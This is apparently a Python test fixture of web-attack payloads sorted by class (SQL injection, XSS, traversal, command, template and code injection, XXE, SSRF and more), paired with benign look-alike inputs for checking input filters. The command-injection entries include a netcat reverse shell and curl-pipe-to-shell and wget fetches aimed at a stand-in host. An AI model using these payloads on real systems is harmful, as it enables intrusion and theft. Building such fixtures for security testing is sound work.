"""Payloads: texts of attacks of every common class, and ordinary texts that look odd; all of them written here.

Attacks are for seeing what reaches an application; ordinary ones for seeing what is refused that should not be.
Must never hold a payload that harms where it works: they read, they count, they wait for a moment, and that is all.
"""

# ruff: noqa: RUF001  texts of other scripts are what they are

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType
from typing import Final, NamedTuple


class Payload(NamedTuple):
    """One text.

    Attributes:
        attack: its class, such as `sqli`; `benign` for what is none.
        text: what is sent.
    """

    attack: str
    text: str


_TEXTS: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
    {
        "sqli": (
            "' OR '1'='1",
            "' OR 1=1-- -",
            '" OR "a"="a',
            "1) OR (1=1",
            "1 OR 1=1",
            "admin'--",
            "admin' #",
            "1' UNION SELECT NULL,NULL-- -",
            "1 UNION ALL SELECT username,password FROM users",
            "-1 UNION SELECT 1,@@version,3",
            "1'; SELECT pg_sleep(1)--",
            "1; WAITFOR DELAY '0:0:1'--",
            "1' AND SLEEP(1)#",
            "1 AND (SELECT COUNT(*) FROM sqlite_master)>0",
            "1' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))-- ",
            "1' ORDER BY 9-- ",
            "1' HAVING 1=1-- ",
            "' OR username LIKE 'a%",
            "1/**/UNION/**/SELECT/**/name/**/FROM/**/users",
            "1%27%20OR%201=1",
            "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
            "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
            "0x31 OR 2>1",
            "' || (SELECT table_name FROM information_schema.tables LIMIT 1) || '",
        ),
        "xss": (
            "<script>alert(1)</script>",
            "<ScRiPt>confirm(document.domain)</sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=prompt`1`>",
            "<body onpageshow=alert(1)>",
            '"><script>alert(document.cookie)</script>',
            "' onmouseover='alert(1)",
            '" autofocus onfocus=alert(1) x="',
            "<iframe src=javascript:alert(1)></iframe>",
            "<a href=\"javascript:alert('x')\">x</a>",
            "javascript:alert(document.domain)",
            "<details open ontoggle=alert(1)>",
            "<input onfocus=alert(1) autofocus>",
            "<math><mtext><script>alert(1)</script>",
            "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
            "<marquee onstart=alert(1)>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "<video><source onerror=alert(1)></video>",
            "</textarea><script>alert(1)</script>",
        ),
        "traversal": (
            "../../../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd",
            "....//....//....//etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
            "..%252f..%252fetc%252fpasswd",
            "file:///etc/passwd",
            "php://filter/convert.base64-encode/resource=index.php",
            "../../.env",
            "../../../../proc/self/environ",
            "C:\\boot.ini",
            "images/../../../../etc/hosts",
            "..;/..;/WEB-INF/web.xml",
        ),
        "command": (
            "; cat /etc/passwd",
            "| id",
            "|| whoami",
            "&& uname -a",
            "`id`",
            "$(id)",
            "127.0.0.1; ls -la /",
            "127.0.0.1 | nc 192.0.2.1 4444 -e /bin/sh",
            "; sleep 1;",
            "$(sleep 1)",
            "& ping -n 2 127.0.0.1 &",
            "x;curl http://192.0.2.1/a|sh",
            "a\nid",
            "${IFS}cat${IFS}/etc/passwd",
            "; wget http://192.0.2.1/x -O -",
            "| powershell -c Get-Process",
        ),
        "template": (
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
            "*{7*7}",
            "@(7*7)",
            "{php}echo `id`;{/php}",
        ),
        "code": (
            "__import__('os').system('id')",
            "eval(compile('1','x','exec'))",
            "<?php system($_GET['c']); ?>",
            "system('id');",
            "${jndi:ldap://192.0.2.1/a}",
            "${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}",
            "() { :; }; echo vulnerable",
            "require('child_process').exec('id')",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            'O:8:"stdClass":1:{s:1:"a";s:2:"id";}',
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "!!python/object/apply:os.system ['id']",
        ),
        "xxe": (
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
            '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/e.dtd"> %p;]><a/>',
            '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>',
            '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
            '<!DOCTYPE a PUBLIC "x" "http://192.0.2.1/"><a/>',
        ),
        "ssrf": (
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://127.0.0.1:22/",
            "http://[::1]:6379/",
            "http://0x7f000001/",
            "http://2130706433/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stats",
            "http://localhost@192.0.2.1/",
            "http://192.0.2.1#@localhost/",
        ),
        "header": (
            "x\r\nSet-Cookie: admin=1",
            "x%0d%0aLocation:%20http://192.0.2.1/",
            "x\nX-Injected: yes",
            "a@example.com\r\nBcc: victims@example.com",
            "x\r\n\r\n<script>alert(1)</script>",
        ),
        "nosql": (
            '{"$ne": null}',
            '{"$gt": ""}',
            "[$ne]=1",
            "'; return true; var a='",
            '{"$where": "sleep(100)"}',
            "' || '1'=='1",
        ),
        "ldap": ("*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(password=*)", "*()|&'"),
        "xpath": (
            "' or '1'='1' or ''='",
            "x' or name()='username' or 'x'='y",
            "count(/child::node())",
            "'] | //user[position()=1]/password | a['",
        ),
        "prototype": (
            "__proto__[admin]=1",
            '{"__proto__": {"admin": true}}',
            "constructor.prototype.admin=1",
            "constructor[prototype][admin]=1",
        ),
        "redirect": (
            "//192.0.2.1/",
            "https://192.0.2.1/",
            "/\\192.0.2.1",
            "https:192.0.2.1",
            "//example.com@192.0.2.1/",
        ),
        "ssi": (
            '<!--#exec cmd="id" -->',
            '<!--#include virtual="/etc/passwd" -->',
            "<esi:include src=http://192.0.2.1/ />",
        ),
        "graphql": (
            "{__schema{types{name,fields{name}}}}",
            "query{a:user(id:1){name}b:user(id:2){name}c:user(id:3){name}}",
            "{user{posts{user{posts{user{posts{user{posts{id}}}}}}}}}",
        ),
        "probe": ("/.git/config", "/wp-login.php", "/.env", "/actuator/env", "/phpmyadmin/index.php"),
    }
)

# Names, everyday text, numbers, addresses, markup that is none, and what developers write about.
_BENIGN: Final = (
    "O'Brien", "D'Angelo", "Conan O’Brien", "Jean-Luc", "María José", "Søren Kierkegaard", "Nguyễn Văn A",
    "李小龙", "Владимир", "محمد علي", "Ελένη", "Jürgen Groß", "Łukasz", "Ana Select", "Robert Drop",
    "Sir Union of Or", "Mary-Kate & Ashley", "St. John's", "L'Aquila", "Rue de l'Église 5",
    "10 Downing St, London", "Flat 3/2, 5 Main St", "P.O. Box 12 -- rear", "'s-Hertogenbosch", "Coeur d'Alene",
    "Äpfelstraße 7a", "東京都千代田区1-1", "P. O'Malley & Sons (Ltd.)", "Please select a table and drop me a line",
    "The union of two sets or more", "Where is the order from?", "I'd like to insert a coin",
    "Delete my account, please!", "Update: the script is ready", "1 or 2 people", "It's 5 o'clock",
    "rock 'n' roll", '"Hello," she said.', "50% off; today only", "a -- b", "he said: 'no' -- and left",
    "Tom & Jerry", "R&D", "AT&T", "Q&A", "C# and C++", "5 > 3 and 2 < 4", "if a<b then c", "x <3 y",
    "I <3 Python", "price between 10 and 20", "having fun, group by group", "not in my backyard",
    "exec summary", "char count: 12", "sleep 8 hours a day", "wait for delay", "benchmark results",
    "select all that apply", "cast and crew", "load file menu", "a; b; c", "one, two; three", "what?! really?!",
    "...and so on...", "see ../readme for more", "the /etc folder", "c:\\users\\ann", "~/notes.txt",
    "file.tar.gz", "images/logo.png", "100%", "3.14", "1e10", "-5", "+49 30 123456", "0x1F", "1,234.56",
    "€ 12,50", "$5.00", "£3", "¥1000", "12/31/2026", "2026-11-23T10:00:00Z", "10:30", "5'11\"", "50°N",
    "a@b.example", "first.last+tag@example.co.uk", "https://example.com/a?b=c&d=e#f",
    "http://localhost:8000/docs", "www.example.com", "mailto:a@example.com", "ftp.example.org", "#hashtag",
    "@mention", "user:pass words", "key=value", "a=b&c=d", "[1, 2, 3]", '{"a": 1, "b": [true, null]}', "<3",
    "<p>", "<b>bold</b> move", "a < b > c", "&amp; &lt;", "&nbsp;", "f(x) = x^2", "E = mc²", "∑ i=1..n", "√2",
    "½ cup", "H₂O", "α β γ", "→ next", "✓ done", "😀 👍🏽", "¡Hola! ¿Qué tal?", "Grüße aus Köln", "ça va?",
    "naïve café", "Привет, мир", "こんにちは世界", "안녕하세요", "שלום עולם", "مرحبا بالعالم", "नमस्ते", "สวัสดี",
    "def f(x): return x + 1", "print('hello')", "for (let i = 0; i < n; i++)", "git commit -m 'fix: it works'",
    "npm run build", "SELECT is a keyword", "how do I escape ' in SQL?", "the <script> tag explained",
    "try { } catch { }", "a || b", "a && b", "x = y ? 1 : 0", "$HOME", "%PATH%", "${name}", "{{ name }}",
    "{% block %}", "<%= title %>", "#{id}", "@media print", "rgb(1,2,3)", "/^a.*b$/", "a|b|c", "1;2;3",
    "v1.2.3-rc.1+build.5", "127.0.0.1", "::1", "192.168.0.1/24", "00:1A:2B:3C:4D:5E", "sha256:ab12",
    "TODO: remove", "// comment", "/* note */", "-- separator --", "=====", "---", "***", "___", "| a | b |",
    "- [ ] task", "> quote", "lorem ipsum dolor sit amet", "x" * 200, " ", "0", "true", "null", "None",
    "undefined", "NaN", "admin", "root", "test",
)  # fmt: skip


ATTACKS: Final[tuple[Payload, ...]] = tuple(
    [Payload(attack, text) for attack, texts in _TEXTS.items() for text in texts]
)
"""Attacks, by class."""

BENIGN: Final[tuple[Payload, ...]] = tuple([Payload("benign", text) for text in _BENIGN])
"""Ordinary texts."""
